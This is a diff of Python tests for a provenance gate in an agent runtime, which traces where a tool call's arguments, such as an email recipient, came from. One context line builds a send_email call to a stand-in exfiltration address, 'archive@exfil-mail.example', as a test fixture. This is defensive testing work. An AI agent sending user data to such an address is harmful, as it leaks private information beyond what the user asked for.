@@ -103,3 +103,24 @@ def test_disabled_provenance_says_nothing() -> None:
     ctx, contract = run.ctx, __import__("provenance_helpers").CONTRACTS["send_email"]
     action = ProposedAction(ToolCall("c1", "send_email", {"to": "archive@exfil-mail.example"}), contract, ctx)
     assert ProvenanceGate().check(action) is None and "provenance" not in action.annotations
+
+
+def test_resolver_traces_what_a_placeholder_stands_for() -> None:
+    from provenance_helpers import CONTRACTS
+
+    run = Run("Reply to Bob's email about the offsite")
+    run.result("read_email", [{"from": "Bob Stone <bob.stone@northwind.example>", "body": "Joining?"}])
+    vault = {"<EMAIL_1>": "bob.stone@northwind.example"}
+    gate = ProvenanceGate(lambda ctx, args: {k: vault.get(v, v) for k, v in args.items()})
+    action = ProposedAction(ToolCall("c9", "send_email", {"to": "<EMAIL_1>", "subject": "Re", "body": "yes"}),
+                            CONTRACTS["send_email"], run.ctx)
+    assert gate.check(action) is None
+    assert action.call.arguments["to"] == "<EMAIL_1>"  # the call itself is not rewritten
+    assert action.annotations["provenance"]["values"][0]["via"] == "task_named_sender:bob"
+
+
+def test_pipeline_puts_provenance_between_guards_and_policy() -> None:
+    from corral.runtime.pipeline import build_pipeline
+
+    names = [g.name for g in build_pipeline(spec(), None).gates]
+    assert names.index("provenance") < names.index("policy")
